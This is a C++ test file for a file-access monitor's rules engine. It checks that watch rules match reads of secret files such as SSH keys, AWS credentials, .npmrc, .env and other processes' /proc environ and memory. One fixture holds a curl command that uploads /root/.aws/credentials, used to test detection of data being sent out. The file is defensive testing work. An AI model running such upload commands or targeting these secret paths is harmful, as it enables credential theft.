#include <doctest/doctest.h>

#include <string>

#include "collector_testing.h"
#include "collector_records.h"
#include "model/aggregate.h"
#include "rules/compile_filter.h"
#include "fpshim/wire.h"
#include "rules/match.h"
#include "rules/pattern.h"
#include "rules/rules.h"

using namespace fpshim;

namespace {

// A recipe whose "match" array holds `entries`, its other fields (`extra`) before it.
std::string recipe(const std::string& name, const std::string& extra, const std::string& entries) {
  return test::recipe_json(name, extra + R"( "match": [)" + entries + "]");
}

Rules rules_of(const std::string& recipes) { return test::load_rules(test::rules_json(recipes).c_str()); }

// The entries that fire for an access, as the aggregate decides: the path matches, the entry's
// operations include one of `ops` (wire::Op bits), and the recipe does not exclude `exe`.
std::vector<EntryRef> match(const Rules& rules, std::string_view path, uint32_t ops, std::string_view exe) {
  std::vector<EntryRef> candidates, out;
  match_path(rules, path, candidates);
  for (EntryRef ref : candidates) {
    const Recipe& recipe = rules.recipes[ref.recipe];
    if ((recipe.match[ref.entry].operations & ops) && !excluded(recipe, exe)) out.push_back(ref);
  }
  return out;
}

// Entry indices of recipe 0 that fire.
std::vector<uint32_t> fired(const Rules& rules, std::string_view path, uint32_t ops = wire::op_read,
                            std::string_view exe = "/usr/bin/python3") {
  std::vector<uint32_t> out;
  for (EntryRef ref : match(rules, path, ops, exe)) out.push_back(ref.entry);
  return out;
}

using V = std::vector<uint32_t>;

}  // namespace

TEST_CASE("path matches exactly") {
  Rules r = rules_of(recipe("r", "", R"({"path": "/proc/ioports"})"));
  CHECK(fired(r, "/proc/ioports") == V{0});
  CHECK(fired(r, "/proc/ioports2").empty());
  CHECK(fired(r, "/proc/ioport").empty());
  CHECK(fired(r, "/proc/ioports/x").empty());
}

TEST_CASE("subtree matches the directory and below, not siblings") {
  Rules r = rules_of(recipe("r", "", R"({"subtree": "/sys/class/net"})"));
  CHECK(fired(r, "/sys/class/net") == V{0});
  CHECK(fired(r, "/sys/class/net/eth0") == V{0});
  CHECK(fired(r, "/sys/class/net/eth0/address") == V{0});
  CHECK(fired(r, "/sys/class/netx").empty());
  CHECK(fired(r, "/sys/class/netx/eth0").empty());
  CHECK(fired(r, "/sys/class").empty());
}

TEST_CASE("basename matches the last component anywhere") {
  Rules r = rules_of(recipe("r", "", R"({"basename": "authorized_keys"})"));
  CHECK(fired(r, "/home/u/.ssh/authorized_keys") == V{0});
  CHECK(fired(r, "/authorized_keys") == V{0});
  CHECK(fired(r, "/home/u/.ssh/authorized_keys2").empty());
  CHECK(fired(r, "/home/authorized_keys/x").empty());
}

TEST_CASE("glob uses FNM_PATHNAME on the whole path") {
  Rules r = rules_of(recipe("r", "", R"({"glob": "/sys/class/net/*/address"})"));
  CHECK(fired(r, "/sys/class/net/eth0/address") == V{0});
  CHECK(fired(r, "/sys/class/net/a/b/address").empty());  // '*' does not cross '/'
  CHECK(fired(r, "/sys/class/net/eth0/address2").empty());
  CHECK(fired(r, "/x/sys/class/net/eth0/address").empty());
}

TEST_CASE("regex matches the whole path, with or without anchors") {
  Rules r = rules_of(
      recipe("r", "", R"({"regex": "^/proc/[0-9]+/net/(dev|tcp)$"}, {"regex": "/sys/devices/.+/uevent"})"));
  CHECK(fired(r, "/proc/12/net/dev") == V{0});
  CHECK(fired(r, "/proc/12/net/tcp") == V{0});
  CHECK(fired(r, "/proc/12/net/dev2").empty());
  CHECK(fired(r, "/proc/self/net/dev").empty());
  CHECK(fired(r, "/sys/devices/pci0000:00/uevent") == V{1});
  CHECK(fired(r, "/sys/devices/pci0000:00/uevent.bak").empty());  // no unanchored suffix match
  CHECK(fired(r, "/x/sys/devices/a/uevent").empty());
}

TEST_CASE("an entry's operations narrow the recipe's") {
  Rules r = rules_of(recipe("r", R"("operations": ["read", "list"],)",
                            R"({"path": "/sys/class/net", "operations": ["list"]}, {"path": "/etc/hosts"})"));
  CHECK(fired(r, "/sys/class/net", wire::op_list) == V{0});
  CHECK(fired(r, "/sys/class/net", wire::op_read).empty());
  CHECK(fired(r, "/sys/class/net", wire::op_read | wire::op_list) == V{0});
  CHECK(fired(r, "/etc/hosts", wire::op_read) == V{1});
  CHECK(fired(r, "/etc/hosts", wire::op_stat).empty());  // not among the recipe's
  CHECK(fired(r, "/etc/hosts", wire::op_write).empty());
}

TEST_CASE("exclusions drop accesses by the excluded executables only") {
  Rules r = rules_of(recipe("r", R"("exclude": [
      {"exe": "/usr/bin/lspci", "reason": "lists PCI devices by design"},
      {"exe_glob": "/usr/lib/jvm/*/bin/java", "reason": "r"},
      {"exe_regex": "^/opt/[a-z]+/bin/tool$", "reason": "r"}],)",
                            R"({"subtree": "/sys/bus/pci"})"));
  CHECK(fired(r, "/sys/bus/pci/devices", wire::op_read, "/usr/bin/lspci").empty());
  CHECK(fired(r, "/sys/bus/pci/devices", wire::op_read, "/usr/bin/lspci2") == V{0});
  CHECK(fired(r, "/sys/bus/pci/devices", wire::op_read, "/usr/lib/jvm/java-17/bin/java").empty());
  CHECK(fired(r, "/sys/bus/pci/devices", wire::op_read, "/usr/lib/jvm/a/b/bin/java") == V{0});
  CHECK(fired(r, "/sys/bus/pci/devices", wire::op_read, "/opt/acme/bin/tool").empty());
  CHECK(fired(r, "/sys/bus/pci/devices", wire::op_read, "/opt/acme/bin/tool2") == V{0});
  CHECK(fired(r, "/sys/bus/pci/devices", wire::op_read, "") == V{0});  // unknown exe: not excluded
}

TEST_CASE("disabled recipes neither match nor widen the filter") {
  Rules r = rules_of(recipe("off", R"("enabled": false,)", R"({"path": "/etc/machine-id"})") + "," +
                     recipe("on", "", R"({"path": "/proc/iomem"})"));
  CHECK(match(r, "/etc/machine-id", wire::op_read, "").empty());
  REQUIRE(match(r, "/proc/iomem", wire::op_read, "").size() == 1);
  CHECK(match(r, "/proc/iomem", wire::op_read, "")[0] == EntryRef{1, 0});
  CHECK(compile_filter(r) == "v1:P/proc/iomem");
}

TEST_CASE("several recipes can match one path") {
  Rules r = rules_of(recipe("a", "", R"({"path": "/sys/class/net", "operations": ["list"]})") + "," +
                     recipe("b", "", R"({"subtree": "/sys/class/net"})"));
  auto hits = match(r, "/sys/class/net", wire::op_list, "/bin/ls");
  REQUIRE(hits.size() == 2);
  CHECK(hits[0] == EntryRef{0, 0});
  CHECK(hits[1] == EntryRef{1, 0});
}

TEST_CASE("literal prefixes of globs and regexes") {
  CHECK(glob_filter_pattern("/etc/netplan/*.yaml") == "/etc/netplan/");
  CHECK(glob_filter_pattern("/sys/class/net/?/x") == "/sys/class/net/");
  CHECK(glob_filter_pattern("/etc/*") == "/etc/*");
  CHECK(glob_filter_pattern("/dev/sd[a-z]") == "/dev/sd");
  CHECK(glob_filter_pattern("/a\\*b*") == "/a*b");
  CHECK(glob_filter_pattern("/exact") == "/exact");

  CHECK(regex_filter_pattern("^/sys/class/hwmon/hwmon[0-9]+/.*$") == "/sys/class/hwmon/hwmon");
  CHECK(regex_filter_pattern("^/etc/systemd/network/.*\\.network$") == "/etc/systemd/network/");
  CHECK(regex_filter_pattern("/etc/ld\\.so\\.conf\\.d/.*\\.conf$") == "/etc/ld.so.conf.d/");
  CHECK(regex_filter_pattern("/etc/apk(/repositories)?$") == "/etc/apk");
  CHECK(regex_filter_pattern("^/proc/[0-9]+/net/dev$") == "/proc/*/net/dev");
  CHECK(regex_filter_pattern("^/proc/[0-9]+/task/[^/]+/net/") == "/proc/*/task/*/net/");
  CHECK(regex_filter_pattern("^/proc/[0-9]+$") == "/proc/*");
  CHECK(regex_filter_pattern("^/proc/[a-z/]+/x") == "/proc/");  // may match '/': not one component
  CHECK(regex_filter_pattern("^/proc/[0-9]+x/y") == "/proc/");  // not a whole component
  CHECK(regex_filter_pattern("^/proc/[0-9]*/y") == "/proc/");   // may be empty
  CHECK(glob_filter_pattern("/sys/class/net/*/address") == "/sys/class/net/*/address");
  CHECK(glob_filter_pattern("/sys/class/net/*x/address") == "/sys/class/net/");
  CHECK(regex_filter_pattern("/abc*") == "/ab");
  CHECK(regex_filter_pattern("/abc?") == "/ab");
  CHECK(regex_filter_pattern("/abc{2}") == "/ab");
  CHECK(regex_filter_pattern("/abc+") == "/abc");
  CHECK(regex_filter_pattern("/a\\.*") == "/a");         // the escaped '.' is quantified
  CHECK(regex_filter_pattern("/proc/\\d") == "/proc/");  // letter escapes are not literals
  CHECK(regex_filter_pattern("/tmp/\\$x") == "/tmp/$x");
  CHECK(regex_filter_pattern("/a|/b") == "/a");
  CHECK(regex_filter_pattern(".*") == "");
}

TEST_CASE("top-level alternation") {
  CHECK(has_top_level_alternation("/a|/b"));
  CHECK_FALSE(has_top_level_alternation("/x/(a|b)"));
  CHECK_FALSE(has_top_level_alternation("/x/[|]"));
  CHECK_FALSE(has_top_level_alternation("/x/[]|]"));
  CHECK_FALSE(has_top_level_alternation("/x/\\|"));
  CHECK(has_top_level_alternation("/x/(a)|b"));
}

TEST_CASE("anchors and normalisation") {
  CHECK(strip_anchors("^/a$") == "/a");
  CHECK(strip_anchors("/a\\$") == "/a\\$");
  CHECK(strip_anchors("/a\\\\$") == "/a\\\\");
  CHECK(normalize_path("/a//b/./c/../d/") == "/a/b/d");
  CHECK(normalize_path("/../..") == "/");
}

TEST_CASE("compile_filter: prefixes deduplicated and shortest kept, then basenames, escaped") {
  Rules r = rules_of(recipe("a", "",
                            R"({"subtree": "/sys/class/net"}, {"glob": "/sys/class/net/*/address"},
                {"regex": "^/sys/class/hwmon/hwmon[0-9]+/.*$"}, {"path": "/proc/ioports"},
                {"regex": "^/etc/systemd/network/.*\\.network$"}, {"basename": "authorized_keys"},
                {"path": "/weird/a:b%c"})") +
                     "," +
                     recipe("b", "",
                            R"({"path": "/proc/ioports"}, {"regex": "^/proc/[0-9]+/net/dev$"}, {"basename": "id_rsa"},
                {"basename": "authorized_keys"}, {"path": "/sys/class/netx"})"));
  CHECK(compile_filter(r) ==
        "v1:P/etc/systemd/network/:G/proc/*/net/dev:P/proc/ioports:P/sys/class/hwmon/hwmon:P/sys/class/net:P/weird/"
        "a%3Ab%25c"
        ":Bauthorized_keys:Bid_rsa");
}

TEST_CASE("compile_filter of the shipped rules") {
  LoadedRules shipped = load_rules(FPSHIM_SOURCE_RULES);
  REQUIRE(shipped.ok());
  std::string filter = compile_filter(shipped.rules);
  CHECK(filter.starts_with("v1:P/"));
  CHECK(filter.find(":P/sys/class/dmi") != std::string::npos);
  CHECK(filter.find(":P/proc/ioports") != std::string::npos);
  CHECK(filter.find(":G/proc/*/net/") != std::string::npos);
  CHECK(filter.find(":P/proc/:") == std::string::npos);  // /proc/<pid>/net does not open all of /proc
  CHECK(filter.find(":B") == std::string::npos);
}

TEST_CASE("a ~/ entry matches in /root, in any one directory of /home, and in the build's home") {
  const std::string text = test::rules_json(recipe("r", "", R"({"path": "~/.npmrc"}, {"subtree": "~/.aws"},
      {"regex": "^~/\\.ssh/id_(rsa|ed25519)$"}, {"glob": "~/.yarnrc*"})"));
  LoadedRules loaded = parse_rules(text, "rules.json", "/srv/ci");
  REQUIRE(loaded.ok());
  const Rules& r = loaded.rules;
  CHECK(fired(r, "/root/.npmrc") == V{0});
  CHECK(fired(r, "/home/bob/.npmrc") == V{0});
  CHECK(fired(r, "/srv/ci/.npmrc") == V{0});
  CHECK(fired(r, "/home/.npmrc").empty());
  CHECK(fired(r, "/home/bob/src/.npmrc").empty());
  CHECK(fired(r, "/srv/.npmrc").empty());
  CHECK(fired(r, "/home/bob/.aws") == V{1});
  CHECK(fired(r, "/home/bob/.aws/credentials") == V{1});
  CHECK(fired(r, "/srv/ci/.aws/sso/cache/x.json") == V{1});
  CHECK(fired(r, "/home/bob/.awsx").empty());
  CHECK(fired(r, "/home/bob/x/.aws/credentials").empty());
  CHECK(fired(r, "/root/.ssh/id_ed25519") == V{2});
  CHECK(fired(r, "/home/bob/.ssh/id_rsa") == V{2});
  CHECK(fired(r, "/home/bob/.ssh/id_rsa.pub").empty());
  CHECK(fired(r, "/home/bob/.yarnrc.yml") == V{3});
  CHECK(fired(r, "/srv/ci/.yarnrc") == V{3});
  CHECK(fired(r, "~/.npmrc").empty());

  // The pre-filter lets each home's spelling through: /home/* as a one-component wildcard.
  const std::string filter = compile_filter(r);
  for (const char* part :
       {":P/root/.npmrc", ":G/home/*/.npmrc", ":P/srv/ci/.npmrc", ":P/root/.aws", ":G/home/*/.aws", ":P/srv/ci/.aws",
        ":P/root/.ssh/id_", ":G/home/*/.ssh/id_", ":P/srv/ci/.ssh/id_", ":G/home/*/.yarnrc"})
    CHECK_MESSAGE(filter.find(part) != std::string::npos, part, " in ", filter);
}

TEST_CASE("proc_pid: a process's own /proc entries never fire; another's do") {
  Rules r = rules_of(recipe("r", "", R"({"regex": "^/proc/[0-9]+/mem$", "proc_pid": "not_self_or_descendant"},
      {"regex": "^/proc/[0-9]+/task/[0-9]+/mem$", "proc_pid": "not_self"}, {"regex": "^/proc/[0-9]+/status$"})"));
  auto fires = [&](std::string_view path, int32_t reader) {
    std::vector<EntryRef> matched, out;
    match_path(r, path, matched);
    fired_entries(r, matched, wire::op_read, path, reader, out);
    return !out.empty();
  };
  CHECK_FALSE(fires("/proc/42/mem", 42));
  CHECK(fires("/proc/42/mem", 7));
  CHECK_FALSE(fires("/proc/42/task/43/mem", 42));
  CHECK(fires("/proc/42/task/43/mem", 43));
  CHECK(fires("/proc/42/status", 42));  // no proc_pid: every reader
  CHECK(proc_pid_of("/proc/42/mem") == 42);
  CHECK(proc_pid_of("/proc/sys/kernel") == std::nullopt);
  CHECK(proc_pid_of("/proc/1234567890/mem") == std::nullopt);
}

TEST_CASE("an exclusion with arg1 needs the process's first argument too") {
  Exclusion npm{ExcludeKind::exe, "/usr/bin/node", "npm", nullptr, "/usr/bin/npm"};
  const std::vector<Exclusion> list{npm};
  CHECK(excluded(list, "/usr/bin/node", "/usr/bin/npm"));
  CHECK_FALSE(excluded(list, "/usr/bin/node", "/tmp/evil.js"));
  CHECK_FALSE(excluded(list, "/usr/bin/node"));
  CHECK_FALSE(excluded(list, "/usr/bin/python3", "/usr/bin/npm"));
}

namespace {

// Processes of one build fed to an Aggregate: make (100) -> sh (101) -> worker (102); the recipe
// fired by the access of `reader` to `path`, or "" if none did.
struct ProcFixture {
  Rules rules = rules_of(recipe("mem", "", R"({"regex": "^/proc/[0-9]+/environ$", "proc_pid": "not_self_or_descendant"},
               {"regex": "^/proc/[0-9]+/cmdline$", "proc_pid": "not_self"},
               {"path": "/root/.npmrc", "exclude": [{"exe": "/usr/bin/node", "arg1": "/usr/bin/npm", "reason": "npm"}]})"));
  Stats stats;
  Aggregate aggregate{rules, stats, [](const std::string&) { return Inspection{}; }};
  test::Sequencer seqs;

  ProcFixture() {
    aggregate.set_root_pid(100);
    feed(test::hello(100, 1, 1000, "/usr/bin/make", {"make"}));
    feed(test::hello(101, 100, 1100, "/usr/bin/sh", {"sh", "-c", "node /usr/bin/npm"}));
    feed(test::hello(102, 101, 1200, "/usr/bin/node", {"node", "/usr/bin/npm"}));
    feed(test::hello(103, 101, 1300, "/usr/bin/node", {"node", "evil.js"}));
  }
  void feed(const test::RecordSpec& spec) { test::deliver(aggregate, seqs.next(spec)); }
  std::vector<std::string> paths_after(int32_t reader, uint64_t nonce, const std::string& path) {
    feed(test::access(reader, nonce, path));
    Summary s;
    aggregate.summarize(s);
    std::vector<std::string> out;
    for (const RecipeSummary& r : s.recipes)
      for (const PathSummary& p : r.paths) out.push_back(p.path);
    return out;
  }
};

}  // namespace

TEST_CASE("not_self_or_descendant: the model asks the process tree") {
  using S = std::vector<std::string>;
  ProcFixture f;
  CHECK(f.paths_after(101, 1100, "/proc/102/environ").empty());                    // its child
  CHECK(f.paths_after(100, 1000, "/proc/102/environ").empty());                    // its grandchild
  CHECK(f.paths_after(102, 1200, "/proc/102/environ").empty());                    // itself
  CHECK(f.stats.unmatched == 1);                                                   // itself: never fired
  CHECK(f.paths_after(102, 1200, "/proc/101/environ") == S{"/proc/101/environ"});  // its parent
  CHECK(f.paths_after(103, 1300, "/proc/102/cmdline") == S{"/proc/101/environ", "/proc/102/cmdline"});  // a sibling
}

TEST_CASE("an entry's exclusion spares its executable with that first argument only") {
  using S = std::vector<std::string>;
  ProcFixture f;
  CHECK(f.paths_after(102, 1200, "/root/.npmrc").empty());
  CHECK(f.paths_after(103, 1300, "/root/.npmrc") == S{"/root/.npmrc"});
}

TEST_CASE("a ./ entry matches in the working directory only; without one it matches and filters nothing") {
  const std::string text = test::rules_json(recipe("r", "", R"({"glob": "./.git/hooks/*"}, {"path": "/proc/iomem"})"));
  LoadedRules in_dir = parse_rules(text, "rules.json", "", "/src/proj");
  REQUIRE(in_dir.ok());
  CHECK(fired(in_dir.rules, "/src/proj/.git/hooks/post-checkout") == V{0});
  CHECK(fired(in_dir.rules, "/src/other/.git/hooks/post-checkout").empty());
  CHECK(fired(in_dir.rules, "/src/proj/.git/hooks/x/y").empty());
  CHECK(compile_filter(in_dir.rules) == "v1:P/proc/iomem:G/src/proj/.git/hooks/*");

  LoadedRules nowhere = parse_rules(text, "rules.json");
  REQUIRE(nowhere.ok());
  CHECK(fired(nowhere.rules, "./.git/hooks/post-checkout").empty());
  CHECK(compile_filter(nowhere.rules) == "v1:P/proc/iomem");
}

TEST_CASE("not_under: an entry matches outside its directories only; ./ without a working directory matches nothing") {
  const std::string text = test::rules_json(
      recipe("r", "", R"({"basename": ".env", "not_under": ["./", "/opt/vendor"]}, {"path": "/proc/iomem"})"));
  LoadedRules in_dir = parse_rules(text, "rules.json", "", "/src/proj");
  REQUIRE(in_dir.ok());
  CHECK(fired(in_dir.rules, "/src/other/.env") == V{0});
  CHECK(fired(in_dir.rules, "/root/.env") == V{0});
  CHECK(fired(in_dir.rules, "/src/proj-2/.env") == V{0});  // a sibling that shares the name's start
  CHECK(fired(in_dir.rules, "/src/proj/.env").empty());
  CHECK(fired(in_dir.rules, "/src/proj/web/.env").empty());
  CHECK(fired(in_dir.rules, "/opt/vendor/app/.env").empty());
  CHECK(compile_filter(in_dir.rules) == "v1:P/proc/iomem:B.env");

  LoadedRules nowhere = parse_rules(text, "rules.json");
  REQUIRE(nowhere.ok());
  CHECK(fired(nowhere.rules, "/src/other/.env").empty());
  CHECK(compile_filter(nowhere.rules) == "v1:P/proc/iomem");
}

TEST_CASE("args_regex: an exec counts when the program's arguments match, as its exec record carries them") {
  using S = std::vector<std::string>;
  Rules rules = rules_of(recipe("up", R"("operations": ["exec"],)",
                                R"({"path": "/usr/bin/curl", "args_regex": ".* (-d|--data-binary) ?@.*"})"));
  Stats stats;
  Aggregate aggregate{rules, stats, [](const std::string&) { return Inspection{}; }};
  test::Sequencer seqs;
  auto feed = [&](const test::RecordSpec& spec) { test::deliver(aggregate, seqs.next(spec)); };
  uint64_t excluded = 0;
  S reasons;  // the report's excluded accesses
  auto paths = [&] {
    Summary s;
    aggregate.summarize(s);
    excluded = s.stats.excluded;
    reasons.clear();
    for (const ExcludedSummary& x : s.excluded)
      for (const std::string& path : x.examples) reasons.push_back(path + ": " + x.reason);
    S out;
    for (const RecipeSummary& r : s.recipes)
      for (const PathSummary& p : r.paths) out.push_back(p.path);
    return out;
  };
  aggregate.set_root_pid(100);
  feed(test::hello(100, 1, 1000, "/usr/bin/sh", {"sh", "-c", "..."}));
  feed(test::hello(200, 1, 2000, "/usr/bin/sh", {"sh", "-c", "..."}));
  // A download: the exec is reported (the path is watched), its arguments do not match.
  feed(test::access(100, 1000, "/usr/bin/curl", wire::op_exec));
  feed(
      test::exec(100, 1000, 1010, "/usr/bin/curl", {"curl", "-fsSL", "-o", "x.tgz", "https://example.com/x.tgz"}, 101));
  CHECK(paths().empty());
  CHECK(excluded == 1);
  CHECK(reasons == S{"/usr/bin/curl: its arguments do not match the entry's args_regex"});
  // An upload by another process, that failed to start (no curl): the arguments are the intent.
  feed(test::access(200, 2000, "/usr/bin/curl", wire::op_exec, ENOENT));
  feed(test::exec(200, 2000, 2010, "/usr/bin/curl", {"curl", "-s", "--data-binary", "@/root/.aws/credentials", "x"}, 0,
                  ENOENT));
  CHECK(paths() == S{"/usr/bin/curl"});
}

TEST_CASE("not_under and args_regex are checked where they are written") {
  auto error_for = [](const std::string& entry, const std::string& extra = R"("operations": ["exec"],)") {
    LoadedRules r = parse_rules(test::rules_json(recipe("r", extra, entry)), "rules.json", "", "/src");
    return r.errors.empty() ? std::string() : r.errors.front().str();
  };
  CHECK(error_for(R"({"basename": ".env", "not_under": ["/"]})")
            .ends_with("not_under \"/\" must be an absolute directory other than \"/\", or begin with ./"));
  CHECK(error_for(R"({"basename": ".env", "not_under": ["src"]})").find("must be an absolute directory") !=
        std::string::npos);
  CHECK(error_for(R"({"basename": ".env", "not_under": ["./../x"]})")
            .ends_with("not_under \"./../x\" must not climb out of the working directory with \"..\""));
  CHECK(error_for(R"({"basename": ".env", "not_under": []})").ends_with("\"not_under\" must not be empty"));
  CHECK(error_for(R"({"path": "/usr/bin/curl", "args_regex": "(("})").find("invalid regex \"((\"") !=
        std::string::npos);
  CHECK(error_for(R"({"path": "/usr/bin/curl", "args_regex": ".*"})", "")
            .ends_with("args_regex needs an entry whose operations are [\"exec\"] only (the arguments are those of the "
                       "program it "
                       "runs)"));
  CHECK(error_for(R"({"path": "/usr/bin/curl", "args_regex": ".*"})").empty());
}
